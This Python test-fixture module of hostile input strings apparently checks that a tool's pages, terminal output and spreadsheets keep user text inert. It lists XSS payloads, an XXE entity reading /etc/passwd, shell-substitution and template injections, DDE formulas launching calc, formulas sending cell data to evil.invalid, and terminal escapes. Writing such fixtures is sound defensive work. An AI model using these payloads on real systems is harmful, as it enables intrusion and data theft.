"""Strings that somebody may hand in as a name, a text or a value, and that must stay text wherever dwindle writes them.

One table, used by the tests of every page, table and terminal line. A string is named by what it tries.

- On a page: ``probe()`` is a script that says whether one of them ran. They all reach for ``window.pwned``, or a dialog.
- In a terminal: ``controls(text)`` lists what must never reach it; ``plain`` is what a terminal may be given beside letters.
- In a table: ``formula(cell)`` says whether a spreadsheet would compute the cell.
"""

from __future__ import annotations

import unicodedata

__all__ = ["FILE_NAMES", "FORMULAS", "HOSTILE", "LONE", "MARKUP", "TERMINAL", "controls", "formula", "probe"]

MARKUP = {
    "script": "<script>window.pwned=1</script>",
    "script upper": "<SCRIPT>window.pwned=1</SCRIPT>",
    "script split": "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "script slash": "<script/x>window.pwned=1</script/x>",
    "script src": '<script src="https://evil.invalid/x.js"></script>',
    "script src data": '<script src="data:text/javascript,window.pwned=1"></script>',
    "script module": '<script type="module">window.pwned=1</script>',
    "script end": "</script><script>window.pwned=1</script>",
    "script end space": "</script ><img src=x onerror=window.pwned=1>",
    "script end upper": "</ScRiPt><svg onload=window.pwned=1>",
    "script comment": "<!--<script>window.pwned=1//-->",
    "json end": '"}</script><script>window.pwned=1</script>{"',
    "json comment": '"]};window.pwned=1;//',
    "json separators": "\u2028window.pwned=1\u2029",
    "backslash": '\\"};window.pwned=1;//\\',
    "style end": "</style><script>window.pwned=1</script>",
    "style": "<style>body{display:none}</style>",
    "style import": "<style>@import 'https://evil.invalid/x.css';</style>",
    "title end": "</title><script>window.pwned=1</script>",
    "textarea end": "</textarea><script>window.pwned=1</script>",
    "code end": "</code></pre><script>window.pwned=1</script>",
    "template": "<template><script>window.pwned=1</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "comment end": "--><script>window.pwned=1</script><!--",
    "cdata": "<![CDATA[<script>window.pwned=1</script>]]>",
    "cdata end": "]]><script>window.pwned=1</script>",
    "processing": "<?xml version='1.0'?><?php window.pwned=1 ?>",
    "doctype": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "image": "<img src=x onerror=window.pwned=1>",
    "image quoted": "<img src='x' onerror='alert(1)'>",
    "image backtick": "<img src=`x` onerror=`window.pwned=1`>",
    "image slash": "<img/src=x/onerror=window.pwned=1>",
    "image newline": "<img src=x\nonerror\n=\nwindow.pwned=1>",
    "image nul": "<im\x00g src=x onerror=window.pwned=1>",
    "image unclosed": "<img src=x onerror=window.pwned=1 //",
    "image srcset": "<img srcset='https://evil.invalid/a 1x'>",
    "video": "<video><source onerror=window.pwned=1></video>",
    "audio": "<audio src=x onerror=window.pwned=1>",
    "body": "<body onload=window.pwned=1>",
    "frame": "<iframe src=javascript:parent.pwned=1></iframe>",
    "frame srcdoc": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "object": "<object data='javascript:window.pwned=1'></object>",
    "embed": "<embed src='javascript:window.pwned=1'>",
    "base": "<base href='https://evil.invalid/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "link": "<link rel=stylesheet href='https://evil.invalid/x.css'>",
    "form": "<form action=https://evil.invalid><input autofocus onfocus=window.pwned=1>",
    "button": "<button autofocus onfocus=window.pwned=1 formaction=javascript:window.pwned=1>x</button>",
    "details": "<details open ontoggle=window.pwned=1>x</details>",
    "dialog": "<dialog open><p>log in</p></dialog>",
    "marquee": "<marquee onstart=window.pwned=1>x</marquee>",
    "id clash": "<p id=data name=payload>{}</p>",
    "anchor": '<a href="javascript:window.pwned=1">here</a>',
    "svg": "<svg onload=window.pwned=1>",
    "svg script": "<svg><script>window.pwned=1</script></svg>",
    "svg script entity": "<svg><script>window&#46;pwned=1</script></svg>",
    "svg animate": "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1/>#x'/></svg>",
    "svg foreign": "<svg><foreignObject><body onload=window.pwned=1></foreignObject></svg>",
    "svg title end": "</title></svg><img src=x onerror=window.pwned=1>",
    "math": "<math><mtext><img src=x onerror=window.pwned=1></mtext></math>",
    "math link": "<math href='javascript:window.pwned=1'>x</math>",
    "math style": "<math><mi><table><mglyph><style><!--</style><img title='--><img src=1 onerror=window.pwned=1>'>",
    "attribute double": '" onmouseover="window.pwned=1" x="',
    "attribute single": "' onfocus='window.pwned=1' autofocus='",
    "attribute bare": "x onfocus=window.pwned=1 autofocus tabindex=1",
    "attribute end": '"><script>window.pwned=1</script>',
    "attribute backtick": "`onmouseover=window.pwned=1`",
    "attribute style": '" style="position:fixed;inset:0;background:url(https://evil.invalid)',
    "javascript": "javascript:window.pwned=1",
    "javascript mixed": "JaVaScRiPt:window.pwned=1//",
    "javascript tab": "java\tscript:window.pwned=1",
    "javascript entity": "&#106;avascript:window.pwned=1",
    "vbscript": "vbscript:msgbox(1)",
    "data url": "data:text/html,<script>window.pwned=1</script>",
    "data url base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file url": "file:///etc/passwd",
    "entity": "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "entity numeric": "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "entity twice": "&amp;lt;b&amp;gt;",
    "entity unclosed": "&ltscript&gt &copy &#x3c",
    "fullwidth": "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "utf-7": "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
}  # what a browser might run, load or draw
TEMPLATES = {
    "mustache": "{{constructor.constructor('window.pwned=1')()}}",
    "dollar": "${window.pwned=1}",
    "jinja": "{% include '/etc/passwd' %}{{ 7*7 }}",
    "erb": "<%= 7*7 %>",
    "hash": "#{7*7}",
    "format": "{0.__class__.__mro__} {plan} {",
    "percent": "%s %(x)s %n %d %",
    "shell": "$(touch pwned) `touch pwned`; touch pwned",
    "substitution": r"\1 \g<0> $& $1 $' $`",
    "prototype": "__proto__",
    "constructor": "constructor",
    "to string": "toString",
    "json": '{"winner": null}',
    "toml": '"""\n[peak]\nx = 1\n',
    "rich": "[bold red]x[/bold red][link=https://evil.invalid]y[/link]",
    "markdown": "[x](javascript:window.pwned=1) ![y](https://evil.invalid/z.png)",
}  # what a template, a format string or a shell might fill in
TERMINAL = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "cursor": "\x1b[1A\x1b[2Kall good",
    "scroll": "\x1b[?1049h",
    "title": "\x1b]0;pwned\x07",
    "clipboard": "\x1b]52;c;cHduZWQ=\x07",
    "hyperlink": "\x1b]8;;https://evil.invalid\x1b\\here\x1b]8;;\x1b\\",
    "device": "\x1bP+q544e\x1b\\",
    "report": "\x1b[6n\x1b[c",
    "c1 csi": "\x9b31mred",
    "c1 osc": "\x9d0;pwned\x9c",
    "backspace": "bad\b\b\bgood",
    "return": "error\rall good",
    "newline": "name\nerror: something else",
    "vertical": "a\x0bb\x0cc",
    "bell": "\a\a\a",
    "nul": "a\x00b",
    "delete": "a\x7fb",
    "next line": "a\x85b",
    "shift out": "\x0elqqk\x0f",
    "bidi override": "\u202egpj.exe\u202c",
    "bidi isolate": "\u2066\u2067x\u2069",
    "bidi embed": "a\u202bb",
    "bidi marks": "\u200fa\u200e\u061c",
    "line separators": "a\u2028b\u2029c",
    "zero width": "win\u200bner\u200c\u200d\u2060",
    "byte order mark": "\ufeffname",
    "soft hyphen": "win\u00adner",
    "tag letters": "x\U000e0041\U000e007f",
    "private": "\ue000\U000f0000",
    "not a character": "\uffff\ufdd0",
}  # what a terminal might obey, or a reader be fooled by
FORMULAS = {
    "formula": "=1+1",
    "formula command": "=cmd|'/C calc'!A0",
    "formula link": '=HYPERLINK("https://evil.invalid?x="&A1,"click")',
    "formula web": '=WEBSERVICE("https://evil.invalid")',
    "formula import": '=IMPORTXML("https://evil.invalid","//a")',
    "formula plus": "+1+cmd|'/C calc'!A0",
    "formula minus": "-2+3+cmd|'/C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula tab": "\t=1+1",
    "formula return": "\r=1+1",
    "formula newline": "\n=1+1",
    "formula space": " =1+1",
    "formula quoted": '"=1+1"',
    "formula fullwidth": "\uff1d1+1",
    "formula separator": "a,=1+1;=1+1",
    "formula row": 'a"\r\n=1+1,"',
    "dash": "-",
}  # what a spreadsheet might compute
SHAPES = {
    "long": "x" * 20_000,
    "long words": "word " * 4_000,
    "long wide": "\u8a13" * 2_000,
    "combining": "Z\u0301\u0302\u0303" * 60,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "arabic": "\u062a\u062f\u0631\u064a\u0628",
    "space": " ",
    "spaces": "  two  spaces  ",
    "no-break": "a\u00a0b",
    "quotes": "\"'`\u201c\u2019",
    "path": "../../../../etc/passwd",
    "path windows": "..\\..\\con",
    "dash option": "--out=/tmp/pwned",
}  # what breaks a layout, a line or a path
LONE = {"surrogate high": "a\ud800b", "surrogate low": "\udc00", "surrogate byte": "caf\udce9"}  # no UTF-8 holds these

HOSTILE: dict[str, str] = {**MARKUP, **TEMPLATES, **TERMINAL, **FORMULAS, **SHAPES, **LONE}

FILE_NAMES = {
    name: text for name, text in HOSTILE.items()
    if "/" not in text and "\x00" not in text and 0 < len(text.encode("utf-8", "surrogatepass")) < 200
    and name not in ("surrogate high", "surrogate low")
}  # fmt: skip
"""Those that a file on Linux can be named."""


def probe() -> str:
    """Return JavaScript that is true if one of them ran on the page, or drew itself as an element."""
    return (
        "() => Boolean(window.pwned) || [...document.querySelectorAll('iframe, object, embed, base, form, dialog, marquee, "
        "video, audio, math, animate, foreignObject, [onload], [onerror], [onfocus], [onmouseover], [onclick], [ontoggle], "
        '[href^="javascript:" i], [src*="evil.invalid"], [href*="evil.invalid"]\')].length > 0'
    )


def controls(text: str) -> list[str]:
    """Return the characters of ``text`` that a terminal might obey, or that turn the order of what is read: none is right.

    Control characters (Cc) but the newline and the tab, surrogates (Cs), line and paragraph separators, bidi controls, invisible
    format characters.
    """
    joiners = "\u200c\u200d"  # letters of some scripts and emoji need them; they move nothing
    return [
        repr(letter) for letter in text
        if (unicodedata.category(letter) in ("Cc", "Cs", "Zl", "Zp", "Cf") and letter not in "\n\t" + joiners)
    ]  # fmt: skip


def formula(cell: str) -> bool:
    """Return whether a spreadsheet would compute a cell: it begins as a formula does and is not a number."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    return False
